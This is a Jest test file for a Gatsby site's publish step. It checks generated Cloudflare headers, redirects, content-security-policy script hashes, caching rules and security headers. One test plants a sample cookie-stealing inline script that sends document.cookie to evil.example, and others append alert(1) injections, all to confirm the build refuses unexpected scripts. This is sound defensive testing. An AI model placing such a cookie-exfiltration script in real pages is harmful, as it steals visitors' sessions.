/** @jest-environment node */
import fs from "fs"
import os from "os"
import path from "path"
import {
  cacheControl,
  cloudflareLimits,
  headersForPath,
  headersText,
  limitProblems,
  parseHeaders,
  redirectsText,
  scriptPolicyProblems,
  writeCdnFiles,
} from "../../src/node/publish/headers-and-redirects"
import { samePagePathScript, samePagePathScriptInEveryPage } from "../../gatsby/internals/page-path-script"
import { htmlPages, inlineScripts, scriptHash } from "../../src/node/publish/inline-scripts"
import { inlineScript } from "../../src/node/publish/inline-script-build"
import { cmsOpenerPolicy, cmsPolicy, policyText } from "../../src/node/publish/security-headers"
import { cmsRoute } from "../../src/model/routes"
import { redirectRoutes } from "../../src/registry"

/**
 * The CDN's files on a small made-up build: what Gatsby writes into a page (its page-path script, its chunk mapping
 * and compilation hash, a script of the site's, data that is not run), hash-named scripts and the files that are
 * not, the editor's page.
 */

const pagePathScript = (pagePath: string) =>
  `<script id="gatsby-script-loader">/*<![CDATA[*/window.pagePath=${JSON.stringify(pagePath)};/*]]>*/</script>`

/** Gatsby's chunk mapping, as its `_gatsby-scripts` slice writes it. */
const chunkMapping = (mapping = "{}") =>
  `<script id="gatsby-chunk-mapping">\n  window.___chunkMapping=${JSON.stringify(mapping)};\n</script>`

const noticesScript = inlineScript("notices")
/** The page-path script, as the build compiles it and gives it to the rewrite. */
const pagePathCode = inlineScript("page-path")

const page = (pagePath: string, extra = "", mapping = "{}") =>
  [
    "<!DOCTYPE html><html><head>",
    `<script>${noticesScript}</script>`,
    '<script type="application/ld+json">{"@type":"Hospital"}</script>',
    '<style data-styled="">.a{color:red}</style>',
    "</head><body><main>Page</main>",
    pagePathScript(pagePath),
    chunkMapping(mapping),
    '<script>window.___webpackCompilationHash="0123456789abcdef0123";</script>',
    '<script src="/app-0123456789abcdef0123.js" async></script>',
    extra,
    "</body></html>",
  ].join("")

const hash20 = "0123456789abcdef0123"
const files: Record<string, string> = {
  "index.html": page("/"),
  "news/index.html": page("/news/"),
  "sw/news/index.html": page("/sw/news/"),
  "404.html": page("/404.html"),
  [`app-${hash20}.js`]: "app",
  [`styles.${hash20}.css`]: "css",
  [`app-${hash20}.js.map`]: "{}",
  "sw.js": "worker",
  "static/abc/picture.jpg": "jpg",
  "page-data/app-data.json": "{}",
  "page-data/news/page-data.json": "{}",
  "rss.xml": "<rss/>",
  "~partytown/partytown.js": "pt",
  "~partytown/debug/partytown-sw.js": "pt",
  "cms/index.html": '<!doctype html><html><body><script src="/cms/react-18.3.1.js"></script></body></html>',
  "cms/react-18.3.1.js": "react",
  [`cms/cms-${hash20}.js`]: "cms",
  // The search index (src/node/publish/search-index.ts): Pagefind's own files keep their names, its chunks are hashed.
  "pagefind/pagefind.js": "pf",
  "pagefind/preload.json": "{}",
  "pagefind/pagefind-entry.json": "{}",
  "pagefind/wasm.en.pagefind": "wasm",
  "pagefind/pagefind.en_8cef26b1cd.pf_meta": "meta",
  "pagefind/index/en_435c5b8.pf_index": "index",
  "pagefind/fragment/en_1e6dce9.pf_fragment": "fragment",
}

let publicDir: string
beforeEach(() => {
  publicDir = fs.mkdtempSync(path.join(os.tmpdir(), "cdn-files-"))
  for (const [file, text] of Object.entries(files)) {
    fs.mkdirSync(path.dirname(path.join(publicDir, file)), { recursive: true })
    fs.writeFileSync(path.join(publicDir, file), text)
  }
})
afterEach(() => fs.rmSync(publicDir, { recursive: true, force: true }))

/** As the build does: the page-path script made one for every page, then the files. */
const write = (options = { googleMaps: false }) => {
  samePagePathScriptInEveryPage(publicDir, htmlPages(publicDir), pagePathCode)
  writeCdnFiles(publicDir, options)
}
const read = (file: string) => fs.readFileSync(path.join(publicDir, file), "utf8")
const rules = () => parseHeaders(read("_headers"))
const policyAt = (address: string) => headersForPath(rules(), address)["content-security-policy"]

test("only the scripts a browser runs from the page itself are inline scripts", () => {
  expect(inlineScripts(page("/news/"))).toEqual([
    noticesScript,
    '/*<![CDATA[*/window.pagePath="/news/";/*]]>*/',
    '\n  window.___chunkMapping="{}";\n',
    'window.___webpackCompilationHash="0123456789abcdef0123";',
  ])
  expect(inlineScripts('<script type="module">go()</script><script type="text/plain">x</script>')).toEqual(["go()"])
})

test("the script that names the page reads the name from its attribute, the same text in every page", () => {
  const pages = ["/", "/news/", '/a"&<b/'].map(pagePath => samePagePathScript(page(pagePath), pagePathCode))
  const scripts = pages.map(html => inlineScripts(html)[1])
  expect(new Set(scripts).size).toBe(1)
  // Run as the browser would: window.pagePath is what Gatsby wrote.
  for (const [index, pagePath] of ["/", "/news/", '/a"&<b/'].entries()) {
    const attribute = /data-page-path="([^"]*)"/.exec(pages[index])?.[1] ?? ""
    const decoded = attribute
      .replace(/&quot;/g, '"')
      .replace(/&lt;/g, "<")
      .replace(/&gt;/g, ">")
      .replace(/&amp;/g, "&")
    const window: { pagePath?: string } = {}
    const document = { currentScript: { getAttribute: (name: string) => (name === "data-page-path" ? decoded : null) } }
    new Function("window", "document", scripts[0])(window, document)
    expect(window.pagePath).toBe(pagePath)
  }
  expect(samePagePathScript(pages[1], pagePathCode)).toBe(pages[1])
  expect(() =>
    samePagePathScript('<script id="gatsby-script-loader">window.other=1</script>', pagePathCode, "x.html"),
  ).toThrow(
    /Gatsby internals: .*page-path script.*assumption 10.*, but x\.html has <script id="gatsby-script-loader">window\.other=1/,
  )
})

test("every script of every page is allowed by its hash, once, and nothing else is", () => {
  write()
  const hashes = ["/", "/news/", "/sw/news/"].map(address => policyAt(address))
  expect(new Set(hashes).size).toBe(1)
  const expected = [
    ...new Set(["index.html", "news/index.html"].flatMap(file => inlineScripts(read(file)).map(scriptHash))),
  ]
  expect(expected).toHaveLength(4)
  const scriptSrc = /script-src ([^;]*)/.exec(hashes[0] ?? "")?.[1].split(" ")
  // 'wasm-unsafe-eval' lets the site search compile Pagefind's WebAssembly; it allows no eval of script.
  expect(scriptSrc?.sort()).toEqual(["'self'", "'wasm-unsafe-eval'", ...expected].sort())
  expect(scriptPolicyProblems(publicDir)).toEqual([])
})

test("a page carrying an inline script the build does not mean to emit stops the build, naming page and script", () => {
  const injected = "window.stolen=document.cookie;fetch('https://evil.example/'+window.stolen)"
  fs.writeFileSync(path.join(publicDir, "news/index.html"), page("/news/", `<script>${injected}</script>`))
  expect(() => write()).toThrow(
    `inline scripts the build does not mean to emit (src/node/publish/known-scripts.ts):\n  public/news/index.html: ${JSON.stringify(injected.slice(0, 60))}`,
  )
  expect(fs.existsSync(path.join(publicDir, "_headers"))).toBe(false)
})

test("Gatsby's scripts are known by a shape that can only assign a string: one that does more is refused", () => {
  for (const script of [
    '<script>window.___chunkMapping="{}";alert(1)</script>',
    '<script id="gatsby-chunk-mapping">window.___chunkMapping="{\\"a\\":1}" + alert(1);</script>',
    '<script>window.___webpackCompilationHash="0123";alert(1);</script>',
  ]) {
    fs.writeFileSync(path.join(publicDir, "index.html"), page("/", script))
    expect(() => write()).toThrow(
      /^Pages carry inline scripts the build does not mean to emit .*\n {2}public\/index\.html: /,
    )
  }
})

test("a page with a script the policy does not name is found, naming the page", () => {
  write()
  const html = read("news/index.html").replace("</body>", "<script>window.added=1</script></body>")
  fs.writeFileSync(path.join(publicDir, "news/index.html"), html)
  expect(scriptPolicyProblems(publicDir)).toEqual([
    expect.stringMatching(new RegExp(`^/news/: no policy allows the script ${escape(scriptHash("window.added=1"))}`)),
  ])
})

test("a hash left in the policy that no page's script has is found too", () => {
  write()
  const headers = read("_headers").replace("script-src 'self'", "script-src 'self' 'sha256-stale='")
  fs.writeFileSync(path.join(publicDir, "_headers"), headers)
  expect(scriptPolicyProblems(publicDir)).toEqual(["_headers allows 'sha256-stale=', which no page's script has"])
})

const escape = (text: string) => text.replace(/[.*+?^${}()|[\]\\]/g, "\\$&")

test("the editor has its own policy, and the demo screens keep the public one", () => {
  write()
  expect(policyAt(cmsRoute)).toBe(policyText(cmsPolicy(undefined)))
  expect(policyAt("/admin/dashboard/")).toBe(policyAt("/"))
  expect(policyAt("/auth/login/")).toBe(policyAt("/"))
})

test("hash-named files and /static/ are cached for a year; pages, data, the worker and the rest revalidate", () => {
  write()
  const cache = (address: string) => headersForPath(rules(), address)["cache-control"]
  for (const address of [
    `/app-${hash20}.js`,
    `/styles.${hash20}.css`,
    "/static/abc/picture.jpg",
    `/cms/cms-${hash20}.js`,
  ])
    expect({ address, cache: cache(address) }).toEqual({ address, cache: cacheControl.immutable })
  for (const address of [
    "/",
    "/news/",
    "/sw.js",
    "/page-data/app-data.json",
    "/page-data/news/page-data.json",
    "/rss.xml",
    `/app-${hash20}.js.map`,
    "/~partytown/partytown.js",
    "/~partytown/debug/partytown-sw.js",
    "/cms/react-18.3.1.js",
    "/cms/",
  ])
    expect({ address, cache: cache(address) }).toEqual({ address, cache: cacheControl.revalidate })
})

test("the search index's hashed chunks are cached for a year; Pagefind's script, worker, wasm and entry revalidate", () => {
  write()
  const cache = (address: string) => headersForPath(rules(), address)["cache-control"]
  for (const address of [
    "/pagefind/pagefind.en_8cef26b1cd.pf_meta",
    "/pagefind/index/en_435c5b8.pf_index",
    "/pagefind/fragment/en_1e6dce9.pf_fragment",
  ])
    expect({ address, cache: cache(address) }).toEqual({ address, cache: cacheControl.immutable })
  for (const address of [
    "/pagefind/pagefind.js",
    "/pagefind/pagefind-entry.json",
    "/pagefind/preload.json",
    "/pagefind/wasm.en.pagefind",
  ])
    expect({ address, cache: cache(address) }).toEqual({ address, cache: cacheControl.revalidate })
})

test("every response carries the security headers", () => {
  write()
  for (const address of ["/", "/sw.js", `/app-${hash20}.js`, cmsRoute, "/no-such-page/"]) {
    expect(headersForPath(rules(), address)).toMatchObject({
      "strict-transport-security": expect.stringMatching(/^max-age=\d+/),
      "x-content-type-options": "nosniff",
      "referrer-policy": "strict-origin-when-cross-origin",
      "permissions-policy": expect.stringContaining("camera=()"),
      "content-security-policy": expect.stringContaining("frame-ancestors 'none'"),
      "cross-origin-opener-policy": address === cmsRoute ? cmsOpenerPolicy : "same-origin",
    })
  }
})

test("Google Maps' hosts are allowed only when the build has a key", () => {
  write({ googleMaps: false })
  expect(read("_headers")).not.toMatch(/google/)
  expect(policyAt("/")).toContain("frame-src 'none'")
  write({ googleMaps: true })
  expect(policyAt("/")).toMatch(/script-src [^;]*https:\/\/maps\.googleapis\.com/)
  expect(policyAt("/")).toMatch(/img-src [^;]*https:\/\/\*\.gstatic\.com/)
  expect(policyAt(cmsRoute)).not.toMatch(/google/)
})

test("the editor reaches its Git host's API and sign-in, and no other", () => {
  const connect = (policy: string) => /connect-src ([^;]*)/.exec(policy)?.[1]
  expect(connect(policyText(cmsPolicy(undefined)))).toBe("'self'")
  expect(connect(policyText(cmsPolicy({ name: "github", repo: "h/site" })))).toBe("'self' https://api.github.com")
  expect(connect(policyText(cmsPolicy({ name: "gitlab", repo: "h/site", auth_type: "pkce", app_id: "x" })))).toBe(
    "'self' https://gitlab.com",
  )
  expect(connect(policyText(cmsPolicy({ name: "gitlab", repo: "h/site", base_url: "https://git.example.org/" })))).toBe(
    "'self' https://git.example.org",
  )
  expect(connect(policyText(cmsPolicy({ name: "git-gateway" })))).toBe("'self'")
})

test("the redirects are those of the route list, with and without the slash, as 301s", () => {
  write()
  expect(read("_redirects")).toBe(redirectsText())
  const lines = read("_redirects")
    .split("\n")
    .filter(line => line && !line.startsWith("#"))
  expect(lines).toEqual(
    redirectRoutes.flatMap(({ from, to }) => [`${from.replace(/\/$/, "")} ${to} 301`, `${from} ${to} 301`]),
  )
})

test("a _headers that Cloudflare would cut short is refused: too many rules, or too long a line", () => {
  const many = Array.from({ length: cloudflareLimits.rules + 1 }, (_, index) => ({
    path: `/p${index}/*`,
    set: { "X-Rule": String(index) },
  }))
  expect(limitProblems(headersText(many))).toEqual([`101 rules, over Cloudflare's ${cloudflareLimits.rules}`])
  const long = [{ path: "/*", set: { "X-Long": "x".repeat(cloudflareLimits.lineLength) } }]
  expect(limitProblems(headersText(long))).toEqual([expect.stringMatching(/^line 3 is 2010 characters, over 2000/)])

  // A script that differs on every page would need a hash per page: the build stops rather than write a policy
  // Cloudflare would drop.
  for (let index = 0; index < 40; index++) {
    fs.mkdirSync(path.join(publicDir, `p${index}`))
    fs.writeFileSync(path.join(publicDir, `p${index}/index.html`), page(`/p${index}/`, "", `{"n":${index}}`))
  }
  expect(() => write()).toThrow(
    /_headers cannot be written as Cloudflare Pages would read it:\n {2}line \d+ is \d+ characters/,
  )
})
